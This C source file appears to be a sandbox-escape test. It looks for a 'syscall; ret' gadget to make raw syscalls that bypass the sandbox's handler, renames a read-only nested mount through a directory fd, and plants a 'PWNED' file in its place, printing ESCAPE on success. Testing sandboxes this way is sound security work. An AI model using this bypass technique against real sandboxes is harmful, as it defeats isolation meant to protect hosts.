/* A read-only grant nested in a read-write one (`--rw P --ro P/conf`):
 * its copy is mounted at `conf` in P's copy. Code around the handler
 * (ld-preld's `syscall; ret`) with a directory fd of P renames `conf` away
 * in P's copy (the mount in the detached copy moves with its dentry; the
 * kernel's EBUSY for a mount point only holds in the caller's own mount
 * namespace) and puts a directory or file of its own at `conf`: the
 * host's P/conf, which the session may only read, is then the program's.
 * Each step that works on the host prints ESCAPE. The libc rename (the
 * handler's, through the server) is tried first.
 * argv: OUTER REL */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: nested_rename OUTER REL\n"); return 2; }
    const char *rel = argv[2];
    char full[4096], moved[4096], movedrel[4096];
    snprintf(full, sizeof full, "%s/%s", argv[1], rel);
    snprintf(moved, sizeof moved, "%s/%s.moved", argv[1], rel);
    snprintf(movedrel, sizeof movedrel, "%s.moved", rel);
    long r = lc(rename(full, moved));
    printf("libc rename %s: %s%s\n", full, r == 0 ? "renamed" : strerror((int)-r), r == 0 ? " ESCAPE: a read-only grant renamed" : "");
    if (r == 0) rename(moved, full);
    long outer = lc(open(argv[1], O_RDONLY | O_DIRECTORY));
    printf("libc open %s: %s\n", argv[1], outer >= 0 ? "opened" : strerror((int)-outer));
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g(SYS_fstat, fd, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        struct stat before;
        long isdir = g(SYS_newfstatat, fd, (long)rel, (long)&before, AT_SYMLINK_NOFOLLOW) == 0 && S_ISDIR(before.st_mode);
        long m = g(SYS_renameat, fd, (long)rel, fd, (long)movedrel);
        printf("renameat(dir fd %ld, %s -> %s): %s%s\n", fd, rel, movedrel, m == 0 ? "renamed" : strerror((int)-m),
               m == 0 ? " ESCAPE: a read-only grant's root renamed around the handler" : "");
        fflush(stdout);
        if (m != 0) continue;
        if (isdir) {
            long d = g(SYS_mkdirat, fd, (long)rel, 0777, 0);
            printf("mkdirat(%s): %s\n", rel, d == 0 ? "made" : strerror((int)-d));
            char x[4096];
            snprintf(x, sizeof x, "%s/x", rel);
            long w = g(SYS_openat, fd, (long)x, O_WRONLY | O_CREAT | O_TRUNC, 0666);
            if (w >= 0) {
                long n = g(SYS_write, w, (long)"PWNED\n", 6, 0);
                printf("openat(%s) write %ld%s\n", x, n, n > 0 ? " ESCAPE: the host's read-only place holds the program's file" : "");
                g(SYS_close, w, 0, 0, 0);
            } else printf("openat(%s): %s\n", x, strerror((int)-w));
        } else {
            long w = g(SYS_openat, fd, (long)rel, O_WRONLY | O_CREAT | O_TRUNC, 0666);
            if (w >= 0) {
                long n = g(SYS_write, w, (long)"PWNED\n", 6, 0);
                printf("openat(%s) write %ld%s\n", rel, n, n > 0 ? " ESCAPE: the host's read-only place holds the program's file" : "");
                g(SYS_close, w, 0, 0, 0);
            } else printf("openat(%s): %s\n", rel, strerror((int)-w));
        }
        fflush(stdout);
        break;
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
